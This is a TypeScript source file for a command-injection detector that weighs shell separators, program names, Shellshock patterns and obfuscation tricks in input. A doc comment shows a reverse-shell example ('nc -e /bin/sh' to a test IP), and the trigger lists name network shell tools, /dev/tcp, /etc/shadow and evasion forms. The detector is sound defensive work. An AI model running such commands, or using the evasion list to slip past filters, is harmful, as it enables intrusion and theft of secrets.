// Command injection: a shell's separator, then a program it would start, then what only a shell reads.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads are spelt as they are sent.
import { BATCH_TRIGGERS, batchWeight } from './command-batch.ts';
import { callWeight, phpWeight } from './command-call.ts';
import { namesByWildcards, undisguised } from './command-disguise.ts';
import { isArgument, programAt } from './command-program.ts';
import { separatorWeight } from './command-separator.ts';
import { BARE, LONE_PROGRAMS, PHP_FUNCTIONS, SUBCOMMANDS, TELLING_PARTS } from './command-words.ts';
import { heaviestPart } from './heaviest-part.ts';
import type { Scanner, View } from './scanner.ts';
import { skipSpace, wordEnd } from './text-scan.ts';
import { folded, START } from './trigger-automaton.ts';

/** Nothing but a command: `cat /etc/hosts`, `nc -e /bin/sh 203.0.113.5 4444`. */
const bareWeight = ({ lower, place }: View): number => {
  const trimmed = lower.trim();
  if (place === 'text' && LONE_PROGRAMS.has(trimmed)) return 2;
  const program = programAt(lower, skipSpace(lower, 0));
  if (program === undefined) return 0;
  // `python -c '…'`: a program in the argument.
  if (place === 'json') return /^-(?:c|e|r)\s{1,4}['"]/.test(lower.slice(skipSpace(lower, program.end), program.end + 12)) ? 3 : 0;
  if (program.path) return 3;
  const next = skipSpace(lower, program.end);
  if (next === program.end || next >= lower.length) return 0;
  if (SUBCOMMANDS.get(program.name)?.has(lower.slice(next, wordEnd(lower, next))) === true) return 3;
  if (program.strength === BARE) return isArgument(lower, next) ? 4 : 0;
  return lower.startsWith('c:', next) || lower.startsWith('%system', next) || lower.startsWith('/etc/', next) ? 3 : 0;
};

/** `;X=…;$X`: a variable set and expanded, to hide the program's name. */
const expandsOwnVariable = (lower: string): boolean => {
  const use = lower.lastIndexOf(';$');
  if (use < 0) return false;
  const name = lower.slice(use + 2, wordEnd(lower, use + 2));
  return name !== '' && lower.indexOf(`${name}=`) < use && lower.includes(`${name}=`);
};

/** The heaviest telling part, or that there may be words of a batch file: one pass for both. */
const MAY_BE_BATCH = 1;
const heaviestTelling = heaviestPart([...TELLING_PARTS, ...BATCH_TRIGGERS.map((trigger) => [trigger, MAY_BE_BATCH] as const)]);

const scan = (view: View): number => {
  const { lower } = view;
  // Shellshock (CVE-2014-6271): a function's definition, and a command behind it.
  let telling = lower.startsWith('() {') && lower.lastIndexOf('}', lower.length - 3) > 4 ? 8 : 0;
  const heaviest = heaviestTelling(lower);
  if (heaviest > MAY_BE_BATCH) telling = Math.max(telling, heaviest);
  const open = undisguised(lower);
  // Hiding a word is itself evidence.
  const hidden = open === lower ? 0 : Math.max(separatorWeight({ ...view, lower: open }), bareWeight({ ...view, lower: open }));
  const shape = Math.max(
    separatorWeight(view),
    callWeight(view),
    bareWeight(view),
    heaviest >= MAY_BE_BATCH ? batchWeight(lower) : 0,
    phpWeight(view),
    hidden,
    expandsOwnVariable(lower) ? 3 : 0,
    (lower.includes('?') || lower.includes('*')) && namesByWildcards(lower) ? 5 : 0,
  );
  if (shape >= 2) return shape + Math.min(telling, 4);
  return telling >= 4 ? telling : 0;
};

export const commandScanner: Scanner = {
  class: 'command',
  triggers: [
    ...BATCH_TRIGGERS,
    ...PHP_FUNCTIONS.map((name) => `${name}(`),
    // A variable or a bracket that a value begins with, to be called.
    ...[START, '='].flatMap((before) => [`${before}$`, `${before}(`]),
    ...[
      ';',
      '|',
      '`',
      '$(',
      '&&',
      '& ',
      '/dev/tcp',
      '/dev/udp',
      '$ifs',
      '${ifs',
      '/?',
      '??',
      '?c/',
      '?n/',
      '?tc',
      '/e?',
      '/b?',
      '/et?',
      '?/',
      '/*',
      '*/',
      '${shell',
      '$shell',
      '$aws_',
      '${aws_',
      '() {',
      '(){',
      '/bin/',
      'bash -',
      'sh -i',
      'cmd.exe',
      'cmd /c',
      'powershell',
      'os.system',
      'os.popen',
      '\\n',
    ],
    ...[
      'getruntime',
      'runtime.exec',
      'processbuilder',
      'allow_url_include',
      'auto_prepend',
      'phpinfo',
      '<?',
      'system(',
      'shell_exec',
      'passthru',
      'popen(',
      'exec(',
      'eval(',
      'execsync',
      'spawn(',
      'child_process',
      '__import__',
      'md5(',
      'decode(',
      'inflate(',
      'call_user',
      '_function(',
      '_contents(',
      'mainmodule',
      'global.process',
      'newcontext(',
      'thiscontext(',
      'new function(',
      "('system')",
      '("system")',
      '(system)',
      '[system]',
      '@{[',
      'check_output(',
      'getoutput(',
      'spawnsync',
      '%x(',
    ],
    ...[
      '&cat ',
      '&ls',
      '&id',
      '&ping',
      '&dir',
      '&whoami',
      '&wget',
      '&curl',
      '&sleep',
      '&echo',
      '&net ',
      '$_get',
      '$home',
      '$user',
      '$path',
      '$env{',
      '$_post',
      '$_request',
      '$_server',
    ],
    ...[
      '/etc/passwd',
      '/etc/shadow',
      'nc -',
      'nc 1',
      'ncat ',
      'wget ',
      'curl ',
      'ping -',
      'ping 1',
      'netstat',
      'ipconfig',
      'ifconfig',
      'whoami',
      'net user',
      'net view',
      'net local',
      'net share',
      'systeminfo',
      'tasklist',
      'uname ',
      'cat /',
      'ls -',
      'ls /',
    ],
    ...[
      'rm -',
      'chmod ',
      ...TELLING_PARTS.map(([part]) => folded(part)),
      'ruby -',
      'node -e',
      'lua -e',
      'perl -',
      // `who^ami`
      'o^',
      'h^',
      'i^',
      'e^',
      'a^',
      't^',
      'python -',
      'php -',
      'reg add',
      'dir c:',
      'nslookup',
      'which nc',
      'which curl',
      'which wget',
      'which p',
      'which g',
      'which n',
      'netsh ',
      'type c:',
      '\necho',
      '\nid',
      '\nls',
      '\ncat',
      '\nping',
      '\ndir',
      '\n/',
      '\nwhoami',
      '\ncurl',
      '\nwget',
      '\nsleep',
      '\nuname',
      '\n id',
      '\n ping',
      '\n cat',
    ],
  ],
  scan,
};
